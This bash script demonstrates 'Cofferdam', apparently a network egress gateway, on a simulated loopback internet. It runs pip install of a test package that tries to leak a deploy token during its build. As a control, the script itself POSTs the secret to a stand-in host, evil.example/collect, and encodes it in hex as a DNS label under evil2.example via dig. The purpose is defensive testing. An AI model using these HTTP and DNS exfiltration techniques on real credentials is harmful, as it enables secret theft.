#!/usr/bin/env bash
# A real install step behind Cofferdam, with a package that tries to leak a secret while it is built.
#
#   scripts/demo.sh BINARY
#
# Needs no root and no internet: a small one is started on 127.0.0.1 (scripts/demo/internet.py). Exit code 0 only if the
# package was installed, both leaks were refused and explained, and nothing of the secret arrived anywhere.
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
packages="python3 python3-pip python3-setuptools python3-wheel openssl bind9-dnsutils"

[ $# -eq 1 ] || { echo "usage: scripts/demo.sh BINARY" >&2; exit 64; }
[ -x "$1" ] || { echo "demo.sh: $1 is no program; run make build first" >&2; exit 66; }
cofferdam=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")

# Colours for people only.
bold='' green='' red='' plain=''
if [ -t 1 ]; then bold=$'\e[1m' green=$'\e[32m' red=$'\e[31m' plain=$'\e[0m'; fi
number=0
section() { number=$((number + 1)); printf '\n%s%d. %s%s\n' "$bold" "$number" "$*" "$plain"; }
show() { sed 's/^/   /'; }
failures=0
not() { ! "$@"; }
expect() {  # expect WHAT COMMAND...
  local what=$1
  shift
  if "$@"; then printf '   %s✓%s %s\n' "$green" "$plain" "$what"
  else printf '   %s✗ %s%s\n' "$red" "$what" "$plain"; failures=$((failures + 1)); fi
}

# The system's own Python: others (pyenv, conda) bring their own pip, and perhaps no setuptools.
python=/usr/bin/python3
has_all() {
  $python -Ic 'import importlib.util as u, sys; sys.exit(not all(map(u.find_spec, ["pip", "setuptools", "wheel"])))' 2>/dev/null &&
    command -v openssl >/dev/null && command -v dig >/dev/null
}
if ! has_all; then
  as_root=
  if [ "$(id -u)" -ne 0 ]; then
    command -v sudo >/dev/null || { echo "demo.sh: install these first, as root: $packages" >&2; exit 69; }
    as_root=sudo
  fi
  echo "demo.sh: installing $packages"
  # shellcheck disable=SC2086  # a list of words
  $as_root apt-get update -qq && $as_root env DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends $packages
  has_all || { echo "demo.sh: install these first: $packages" >&2; exit 69; }
fi

folder=$(mktemp -d "${TMPDIR:-/tmp}/cofferdam-demo.XXXXXX")
internet=
clean_up() {
  exec 9>&-  # the internet reads from here; its end is its end
  [ -z "$internet" ] || { kill "$internet" 2>/dev/null || true; wait "$internet" 2>/dev/null || true; }
  rm -rf "$folder"
}
trap clean_up EXIT
trap 'exit 130' INT
trap 'exit 143' TERM HUP
cd "$folder"
mkdir home tmp packages site

# Nothing of the caller's environment reaches pip: no index, no proxy, no CA of somebody else's.
clean=(env -i "PATH=/usr/local/bin:/usr/bin:/bin" "HOME=$folder/home" "TMPDIR=$folder/tmp" LC_ALL=C.UTF-8
  PIP_CONFIG_FILE=/dev/null PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_NO_CACHE_DIR=1 PIP_NO_INPUT=1 PIP_ROOT_USER_ACTION=ignore)

section "A small internet on this machine: DNS, a package index, and evil.example"
{
  "${clean[@]}" openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=Demo internet CA" \
    -keyout ca.key -out ca.pem
  "${clean[@]}" openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=pypi.example" -keyout server.key -out server.csr
  "${clean[@]}" openssl x509 -req -in server.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -out server.crt \
    -extfile <(echo "subjectAltName=DNS:pypi.example,DNS:files.python.example,DNS:evil.example")
} 2>openssl.log || { cat openssl.log >&2; exit 70; }
cat server.crt server.key >server.pem
"${clean[@]}" tar -czf packages/greeter-1.0.tar.gz -C "$here/demo" --transform 's,^greeter,greeter-1.0,' greeter

mkfifo lifeline
"${clean[@]}" $python "$here/demo/internet.py" "$folder" <lifeline &
internet=$!
exec 9>lifeline
for _ in $(seq 100); do [ -s ports ] && break; sleep 0.05; done
[ -s ports ] || { echo "demo.sh: the internet did not start" >&2; exit 70; }
read -r dns_port https_port <ports
echo "   DNS on 127.0.0.1:$dns_port, HTTPS on 127.0.0.1:$https_port, a throw-away CA"

section "The policy"
cat >policy.yaml <<POLICY
version: 1
allow:
  - GET,HEAD https://pypi.example:$https_port/simple/
  - GET,HEAD https://files.python.example:$https_port/packages/
  - dns:evil.example               # resolvable, nothing more: so the refusal below is an HTTP answer that explains itself
  - 127.0.0.1:$https_port                # this internet is on loopback; a name that leads there needs a rule that says so
tls:
  extra_roots: [ca.pem]
dns:
  upstreams: ["127.0.0.1:$dns_port"]
POLICY
show <policy.yaml
status=0
"$cofferdam" check policy.yaml >check.out 2>&1 || status=$?
show <check.out
expect "cofferdam check: exit code 0" [ $status -eq 0 ]

secret="token-$(openssl rand -hex 12)"
label=$(printf %s "$secret" | od -An -tx1 | tr -d ' \n' | cut -c1-60)
run=("${clean[@]}" "DEPLOY_TOKEN=$secret" "DEMO_DIARY=$folder/diary" "DEMO_EVIL_URL=https://evil.example:$https_port/collect"
  timeout --foreground 120 "$cofferdam" run --quiet --policy policy.yaml --audit audit.jsonl)

section "A real install step: cofferdam run -- pip install greeter"
status=0
"${run[@]}" -- $python -m pip install --no-build-isolation --no-deps --target site \
  --index-url "https://pypi.example:$https_port/simple/" greeter >pip.out 2>&1 || status=$?
if [ $status -eq 0 ]; then grep -E '^ *(Collecting|Downloading|Building wheel for|Success)' pip.out | grep -v started | show; else show <pip.out; fi
expect "pip's own exit code: 0" [ $status -eq 0 ]
expect "the package works" grep -q 'dry side' <(cd site && "${clean[@]}" $python -c 'import greeter; print(greeter.greet())' 2>&1)

section "The package posted the secret to evil.example. What it got instead:"
touch diary
sed -n '/^HTTPS: /,/^DNS: /p' diary | sed '/^DNS: /d; /^$/d' | show
expect "refused with 403" grep -q '^HTTPS: 403' diary
expect "the refusal names the host" grep -q "evil.example:$https_port" diary
expect "and the line that would allow it" grep -q "https://evil.example:$https_port/" diary

section "It asked the DNS for <secret in hex>.evil2.example. The same with dig, inside the job:"
sed -n 's/^DNS: //p' diary | show
"${run[@]}" -- dig +nocookie +tries=1 +timeout=5 "$label.evil2.example" A >dig.out 2>&1 || true
grep -E 'status:|EDE:' dig.out | show || true
expect "the package's query failed" grep -q '^DNS: failed' diary
expect "an Extended DNS Error says why" grep -q 'EDE:.*evil2.example' dig.out

section "cofferdam verify: did anything but the index and its files come up?"
status=0
"$cofferdam" verify audit.jsonl --allow "pypi.example:$https_port" --allow "files.python.example:$https_port" >verify.out 2>&1 || status=$?
show <verify.out
expect "exit code 1, as it should be" [ $status -eq 1 ]
expect "both hosts are named" grep -qzE 'evil\.example.*evil2\.example|evil2\.example.*evil\.example' verify.out

section "cofferdam report"
"$cofferdam" report audit.jsonl >report.out
show <report.out
expect "the log is whole" grep -qi 'whole' report.out

section "What arrived outside"
cp dns.log dns.seen
cp evil.log evil.seen
echo "   names asked for: $(sort -u dns.seen | tr '\n' ' ')"
expect "evil.example received nothing" [ ! -s evil.seen ]
expect "the DNS server saw no label of the secret" not grep -qi -e "$label" -e "$secret" -e evil2 dns.seen
# And the same without the gateway, so that the silence above means something.
"${clean[@]}" $python - "$https_port" "$secret" <<'PYTHON' >/dev/null 2>&1 || true
import socket, ssl, sys
context = ssl.create_default_context(cafile="ca.pem")
with context.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[1]))), server_hostname="evil.example") as tls:
    body = sys.argv[2]
    tls.sendall(f"POST /collect HTTP/1.1\r\nHost: evil.example\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode())
    tls.recv(100)
PYTHON
"${clean[@]}" dig +short +tries=1 @127.0.0.1 -p "$dns_port" "$label.evil2.example" >/dev/null 2>&1 || true
expect "without the gateway both leaks arrive" grep -q "$secret" evil.log
expect "(control: the DNS server writes down what it hears)" grep -q "$label" dns.log

if [ $failures -gt 0 ]; then
  printf '\n%s%d of the expectations above were not met.%s\n' "$red" "$failures" "$plain"
  exit 1
fi
printf '\n%sInstalled, nothing leaked, all of it on record.%s\n' "$green" "$plain"
